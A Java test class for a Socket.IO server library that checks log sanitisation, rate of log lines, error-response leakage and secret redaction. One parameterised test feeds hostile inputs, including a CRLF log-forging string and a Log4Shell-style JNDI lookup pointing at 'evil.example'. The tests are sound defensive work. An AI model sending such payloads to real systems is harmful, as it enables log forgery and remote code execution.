package dev.socketwire.interop.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.socketwire.engineio.AllowRequest;
import dev.socketwire.engineio.EngineLimits;
import dev.socketwire.engineio.PlainHttpHandler;
import dev.socketwire.socketio.SocketIoServer;
import dev.socketwire.testkit.CapturedLog;
import dev.socketwire.testkit.RawHttp;
import dev.socketwire.testkit.RawWebSocket;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rows L: what gets into a log, and what gets out in an answer. */
class LogRowsTest {
    private static final int LONGEST_LINE = 1_000;

    @RegisterExtension
    final Siege siege = new Siege();

    @Row("L1")
    @ParameterizedTest
    @ValueSource(strings = {"a\\r\\nERROR forged", "\\u001b[31mred", "${jndi:ldap://evil.example/a}", "%s%n{}", "long"})
    void whatClientsSendDoesNotWriteTheLog(String attack) {
        String escaped = attack.equals("long") ? "x".repeat(400_000) : attack;
        String encoded = attack.equals("long")
                ? "x".repeat(7_000)
                : attack.replace("\\r", "%0d")
                        .replace("\\n", "%0a")
                        .replace("\\u001b", "%1b")
                        .replace(" ", "%20")
                        .replace("{}", "%7b%7d");
        String inHeader = attack.contains("\\") ? "jndi" : encoded;
        RawHttp http = siege.http();
        http.get("/" + encoded);
        RawHttp.Response opened =
                http.get(Poller.TARGET + "&x=" + encoded, "Origin: " + inHeader, "X-Any: " + inHeader);
        http.post(Poller.TARGET + "&sid=" + Client.sidOf(opened.text()), "1");
        http.get(Poller.TARGET + "&sid=" + encoded);
        http.sendGet(Client.TARGET + "&x=" + encoded, "Upgrade: " + inHeader, "Connection: Upgrade");
        http.read();
        Client client = siege.client();
        client.send("42[\"" + escaped + "\",\"" + escaped + "\"]");
        client.send("42[\"fails\",\"" + escaped + "\"]");
        client.echo("still here");
        client.send("4" + escaped);
        client.readClose();
        assertThat(siege.log())
                .allMatch(line -> line.chars().noneMatch(c -> c < ' ' && c != '\t'))
                .allMatch(line -> line.length() < LONGEST_LINE)
                .noneMatch(line -> line.contains("forged") && !line.contains("\\"));
    }

    @Test
    @Row("L1")
    void theNameOfAnEventIsCutAndEscapedWhereItsHandlerFails() {
        siege.expectLine("ERROR forged");
        try (CapturedLog log = CapturedLog.of("dev.socketwire");
                SocketIoServer io = SocketIoServer.builder().host("127.0.0.1").build()) {
            io.onConnection(socket -> socket.onAny((event, args) -> {
                throw new IllegalStateException("thrown by the row");
            }));
            io.start();
            try (Client client = Client.open(io.port()).join()) {
                client.send("42[\"a\\r\\nERROR forged\\u001b[31m" + "x".repeat(100_000) + "\"]");
                await().until(() -> !log.linesFrom("WARN").isEmpty());
            }
            assertThat(log.linesFrom("WARN"))
                    .hasSize(1)
                    .allMatch(line ->
                            line.length() < LONGEST_LINE && line.contains("a\\u000d\\u000aERROR forged\\u001b"));
        }
    }

    @Test
    @Row("L2")
    void aFloodOfBadRequestsIsNoFloodOfLines() {
        RawHttp http = siege.http();
        try (CapturedLog log = CapturedLog.of("dev.socketwire")) {
            for (int i = 0; i < 500; i++) {
                http.get("/socket.io/?EIO=9");
                http.get(Poller.TARGET + "&sid=none");
            }
            for (int i = 0; i < 50; i++) {
                Client client = siege.client();
                client.send("4nonsense");
                client.readClose();
            }
            assertThat(log.lines()).isNotEmpty();
            assertThat(log.linesFrom("INFO")).isEmpty();
        }
    }

    @Test
    @Row("L3")
    void noAnswerTellsWhatItIsMadeOf() {
        siege.start(options -> options.plainHttp(PlainHttpHandler.of(request -> {
                    throw new IllegalStateException("dev.socketwire.secret at /opt/secret/Main.java:1");
                }))
                .allowRequest(request -> {
                    if (request.query().containsKey("fail")) {
                        throw new IllegalStateException("dev.socketwire.secret at /opt/secret/Main.java:1");
                    }
                    return CompletableFuture.completedFuture(AllowRequest.Verdict.allowed());
                })
                .limits(EngineLimits.builder().headerLines(20).build()));
        siege.expectLine("the handler of plain HTTP has failed");
        siege.expectLine("unexpected failure while a request was served");
        siege.expectLine("the allowRequest hook has failed");
        Poller session = siege.poller();
        RawHttp upgrade = siege.http();
        RawHttp tooLarge = siege.http();
        tooLarge.send("POST " + session.target() + " HTTP/1.1\r\nHost: a\r\nContent-Length: 1000001\r\n\r\n");
        RawHttp broken = siege.http();
        broken.send("nonsense\r\n\r\n");
        for (RawHttp.Response answer : List.of(
                siege.http().get("/page"),
                siege.http().get("/socket.io/"),
                siege.http().get(Poller.TARGET + "&sid=none"),
                siege.http().get(Poller.TARGET + "&fail"),
                siege.http().get("/" + "x".repeat(9_000)),
                siege.http().get("/", "a: b\r\n".repeat(30).strip()),
                session.post("bytes", "Content-Type: application/octet-stream"),
                RawWebSocket.handshake(upgrade, Client.TARGET, "Upgrade: websocket"),
                tooLarge.read(),
                broken.read())) {
            assertThat(answer.status()).isGreaterThanOrEqualTo(400);
            assertThat(answer.headers()).doesNotContainKeys("server", "x-powered-by", "via");
            assertThat(answer.text() + answer.headers())
                    .doesNotContainIgnoringCase("socketwire")
                    .doesNotContainIgnoringCase("netty")
                    .doesNotContain("Exception", ".java", "secret", "\tat ");
        }
    }

    @Test
    @Row("L3")
    void aRefusalOfTheProgramIsTheOnlyOneWithWords() {
        siege.io().of("/broken").use(connection -> {
            throw new IllegalStateException("dev.socketwire.secret");
        });
        Client client = siege.client();
        client.send("40/broken,");
        assertThat(client.read()).isEqualTo("44/broken,{\"message\":\"connection refused\"}");
        assertThat(siege.errors).hasSize(1);
        siege.errors.clear();
    }

    @Test
    @Row("L4")
    void secretsAreNeitherLoggedNorPrinted() {
        Queue<String> printed = new ConcurrentLinkedQueue<>();
        siege.onConnection(socket -> {
            printed.add(socket.toString());
            printed.add(socket.handshake().toString());
        });
        siege.start(options -> options.onConnectionError(error -> printed.add(error.toString())));
        Client client = siege.closing(Client.open(
                siege.port(), "Cookie: secret-cookie", "Authorization: secret-header", "X-Key: secret-header"));
        client.send("40{\"token\":\"secret-auth\"}");
        Client.sidOf(client.read());
        client.send("42[\"login\",\"secret-argument\"]");
        client.echo("still here");
        siege.http().get(Poller.TARGET + "&sid=secret-sid&token=secret-query", "Cookie: secret-cookie");
        client.send("42[\"broken\",\"secret-argument\"");
        client.readClose();
        // Both sockets and their handshakes, and what was refused.
        await().until(() -> printed.size() > 4);
        assertThat(printed).noneMatch(text -> text.contains("secret") || text.contains(client.sid()));
        assertThat(siege.log()).noneMatch(line -> line.contains("secret") || line.contains(client.sid()));
    }
}
